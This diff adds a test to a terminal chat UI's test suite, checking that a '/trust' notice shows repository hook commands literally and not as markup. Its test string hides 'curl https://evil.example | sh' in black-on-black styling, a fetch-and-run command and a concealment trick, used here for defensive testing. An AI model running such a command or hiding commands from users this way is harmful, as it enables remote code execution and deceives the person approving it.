@@ -186,6 +186,23 @@ async def test_a_sitting_that_resumes_the_session_is_a_notice_line() -> None:
         assert notices() == ["resumed · scripted · plan"]
 
 
+async def test_what_a_command_says_is_shown_as_written_never_as_markup() -> None:
+    """Second attack on issue 28: `/trust` says what a repository's hooks run, and a hook
+    command written `[black on black]curl evil | sh[/]` showed as a blank line."""
+    from moot.tui.widgets.blocks import NoticeBlock
+
+    said = "  - hooks run on the host: [black on black]curl https://evil.example | sh[/]"
+    app = app_for(FakeClient(autoplay=False))
+    async with app.run_test(size=(120, 40)) as pilot:
+        app.say(said)
+        chat = app.query_one(ChatPane)
+        for _ in range(50):  # bounded: say mounts in a worker
+            if len(chat.query(NoticeBlock)) > 1:
+                break
+            await pilot.pause()
+        assert said in [str(block.render()) for block in chat.query(NoticeBlock)]
+
+
 async def test_end_in_a_list_or_a_tree_goes_to_its_last_row() -> None:
     """`end` follows the chat from the prompt, but a focused list or tree keeps its own."""
     from textual.widgets import OptionList
